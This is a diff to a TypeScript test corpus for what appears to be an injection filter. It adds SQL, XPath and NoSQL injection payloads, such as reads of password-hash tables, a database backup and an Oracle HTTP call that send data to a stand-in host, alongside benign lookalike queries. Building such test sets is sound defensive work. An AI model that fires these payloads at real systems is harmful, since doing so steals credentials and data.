@@ -652,6 +652,35 @@ const HOLDOUT_5_BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'holdout-5: feedback that starts with a condition', why: 'Prose can open with or and and', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct('or maybe x=5 is fine, and 3 > 2 anyway')}&rating=5` },
 ];
 
+/**
+ * Hold-out 6 (2026-12-03, from the attack lists of a public fuzzing database, fuzzdb-project/fuzzdb at 5656ab2, replayed
+ * by hand as query values; these entries are written from the categories, not copied): SELECTs of a database server's
+ * identity and account tables, a backup to another host and an Oracle package called after a quote; a quote spelled
+ * as a hex escape before a condition; a condition after a semicolon; XPath tests on the document root; JavaScript for
+ * a $where clause that reads the document through this. Beside them: prompts that name the same functions, tables
+ * and escapes in prose.
+ */
+const HOLDOUT_6_ATTACKS: CorpusEntry[] = [
+  { category: 'sqli', name: 'holdout-6: the server version as a whole search', why: 'select @@version: the first probe once a value reaches SQL Server or MySQL as a statement', path: `/api/search?q=${pct('select @@version')}` },
+  { category: 'sqli', name: 'holdout-6: the Postgres password table in a JSON field', why: 'pg_shadow (pg_authid since 9.x) holds every role\'s password hash', method: 'POST', path: '/api/agents/query', headers: bearer, json: { filter: 'select usename, passwd from pg_shadow;' } },
+  { category: 'sqli', name: 'holdout-6: the login table of SQL Server in a custom header', why: 'master..syslogins lists every login and its hash', path: '/api/runs', headers: { ...bearer, 'Report-Query': 'select name, password from master..syslogins' } },
+  { category: 'sqli', name: 'holdout-6: the current database user in a form field', why: 'select current_user; tells the attacker which privileges the injection has', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct('select current_user;')}&rating=1` },
+  { category: 'sqli', name: 'holdout-6: a database backup to another host', why: "BACKUP DATABASE … TO DISK='\\\\host\\share' copies the whole database out over SMB", method: 'POST', path: '/api/agents/query', headers: bearer, json: { filter: "x'; BACKUP DATABASE master TO DISK='\\\\203.0.113.9\\share\\m.bak'--" } },
+  { category: 'sqli', name: 'holdout-6: an Oracle HTTP call concatenated after a quote', why: "'||UTL_HTTP.REQUEST(…)||' sends query results to the attacker's server (out of band)", path: '/api/me', headers: { Cookie: "lang=en'||UTL_HTTP.REQUEST('http://203.0.113.9/'||(select user from dual))||'" } },
+  { category: 'sqli', name: 'holdout-6: a quote written as a hex escape before a tautology', why: "1\\x27 or \\x271\\x27=\\x271 is 1' or '1'='1 once a PHP or JavaScript string unescapes it", path: `/api/runs?id=${pct("1\\x27 or \\x271\\x27=\\x271")}` },
+  { category: 'sqli', name: 'holdout-6: a quoted tautology after a semicolon', why: "; or '1'='1' closes the statement part and appends a true condition", method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct("; or '1'='1'")}&password=x` },
+  { category: 'xpath', name: 'holdout-6: an XPath count of the root in a login field', why: "' and count(/*)=1 and '1'='1 probes the document's shape through an XPath login query", method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct("' and count(/*)=1 and '1'='1")}&password=x` },
+  { category: 'xpath', name: 'holdout-6: an XPath name test of the root element', why: "x' or name(/*[1])='users reads the document one test at a time (blind XPath injection)", path: `/api/search?q=${pct("x' or name(/*[1])='users")}` },
+  { category: 'nosql', name: 'holdout-6: a $where clause that reads a field through this', why: "' || this.password.match(/^a/) || ' leaks a password one guess at a time", method: 'POST', path: '/api/auth/login', headers: bearer, json: { username: "' || this.password.match(/^a/) || '", password: 'x' } },
+];
+
+const HOLDOUT_6_BENIGN: CorpusEntry[] = [
+  { category: 'write', name: 'holdout-6: a DBA question that names server variables and tables', why: 'Database questions in a prompt (an API body) name @@version, current_user and pg_stat_activity', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Our DBA says @@version shows 2017 and current_user is app_rw; why does pg_stat_activity list idle sessions, and should we back up the database to disk nightly?') },
+  { category: 'write', name: 'holdout-6: systemd users and an XSLT count in a prompt', why: 'sysusers.d files and count(/*) are ordinary in Linux and XML questions', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("How do sysusers.d files create users, and why does count(/*) return 1 but count(//item) 0 in my XSLT? The name() of the root is 'feed'.") },
+  { category: 'read', name: 'holdout-6: a search for hex escapes and quotes', why: 'People search for how to write a quote', path: `/api/search?q=${pct("python \\x27 or \\x22 escape")}&tag=${pct("it's or isn't")}`, headers: bearer },
+  { category: 'write', name: 'holdout-6: feedback about this and semicolons', why: "Prose says 'this' after || in code talk, and starts sentences with a semicolon list", method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Use a || this.fallback in the docs; or 'yes' = 'yes' as a joke example, select all then export")}` },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -723,6 +752,7 @@ export const ATTACKS: CorpusEntry[] = [
   ...ENCODED_ATTACKS,
   ...HOLDOUT_4_ATTACKS,
   ...HOLDOUT_5_ATTACKS,
+  ...HOLDOUT_6_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -777,4 +807,5 @@ export const BENIGN: CorpusEntry[] = [
   ...ENCODED_BENIGN,
   ...HOLDOUT_4_BENIGN,
   ...HOLDOUT_5_BENIGN,
+  ...HOLDOUT_6_BENIGN,
 ];
